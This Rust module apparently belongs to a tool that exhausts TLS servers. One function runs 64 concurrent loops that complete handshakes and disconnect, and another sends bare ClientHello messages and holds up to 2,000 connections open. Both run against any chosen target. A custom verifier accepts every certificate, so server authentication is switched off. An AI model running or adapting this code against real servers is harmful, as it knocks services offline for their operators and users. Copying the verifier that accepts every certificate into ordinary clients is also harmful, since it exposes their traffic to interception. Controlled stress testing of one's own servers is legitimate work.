//! Handshakes of TLS, which cost the server more than the caller.

use std::{sync::Arc, time::Duration};

use rustls::{ClientConfig, pki_types::ServerName};
use tokio::{io::AsyncWriteExt as _, net::TcpStream, task::JoinSet};
use tokio_rustls::TlsConnector;

use crate::Target;

/// Handshakes at once.
const AT_ONCE: usize = 64;

/// Finishes handshakes, without a certificate of its own, and leaves.
pub async fn complete(target: Target) {
    let connector = TlsConnector::from(anybody());
    let mut tasks = JoinSet::new();
    for _ in 0..AT_ONCE {
        let (target, connector) = (target.clone(), connector.clone());
        tasks.spawn(async move {
            while target.goes_on() {
                let Ok(stream) = TcpStream::connect(target.server).await else {
                    tokio::time::sleep(Duration::from_millis(1)).await;
                    continue;
                };
                let name = ServerName::try_from("localhost").unwrap();
                let _ = connector.connect(name, stream).await;
            }
        });
    }
    tasks.join_all().await;
}

/// Says hello, and nothing more, on as many connections as it gets.
pub async fn unfinished(target: Target) {
    let mut hello = Vec::new();
    let name = ServerName::try_from("localhost").unwrap();
    let mut client = rustls::ClientConnection::new(anybody(), name).unwrap();
    client.write_tls(&mut hello).unwrap();
    let mut held = Vec::new();
    while target.goes_on() {
        if let Ok(mut stream) = TcpStream::connect(target.server).await {
            let _ = stream.write_all(&hello).await;
            held.push(stream);
        }
        if held.len() > 2_000 {
            held.drain(..1_000);
        }
    }
}

/// A client that trusts every server.
fn anybody() -> Arc<ClientConfig> {
    let provider = Arc::new(rustls::crypto::ring::default_provider());
    let config = ClientConfig::builder_with_provider(Arc::clone(&provider))
        .with_safe_default_protocol_versions()
        .unwrap()
        .dangerous()
        .with_custom_certificate_verifier(Arc::new(Trusting(provider)))
        .with_no_client_auth();
    Arc::new(config)
}

#[derive(Debug)]
struct Trusting(Arc<rustls::crypto::CryptoProvider>);

impl rustls::client::danger::ServerCertVerifier for Trusting {
    fn verify_server_cert(
        &self,
        _end_entity: &rustls::pki_types::CertificateDer<'_>,
        _intermediates: &[rustls::pki_types::CertificateDer<'_>],
        _server_name: &ServerName<'_>,
        _ocsp_response: &[u8],
        _now: rustls::pki_types::UnixTime,
    ) -> Result<rustls::client::danger::ServerCertVerified, rustls::Error> {
        Ok(rustls::client::danger::ServerCertVerified::assertion())
    }

    fn verify_tls12_signature(
        &self,
        _message: &[u8],
        _cert: &rustls::pki_types::CertificateDer<'_>,
        _dss: &rustls::DigitallySignedStruct,
    ) -> Result<rustls::client::danger::HandshakeSignatureValid, rustls::Error> {
        Ok(rustls::client::danger::HandshakeSignatureValid::assertion())
    }

    fn verify_tls13_signature(
        &self,
        _message: &[u8],
        _cert: &rustls::pki_types::CertificateDer<'_>,
        _dss: &rustls::DigitallySignedStruct,
    ) -> Result<rustls::client::danger::HandshakeSignatureValid, rustls::Error> {
        Ok(rustls::client::danger::HandshakeSignatureValid::assertion())
    }

    fn supported_verify_schemes(&self) -> Vec<rustls::SignatureScheme> {
        self.0.signature_verification_algorithms.supported_schemes()
    }
}
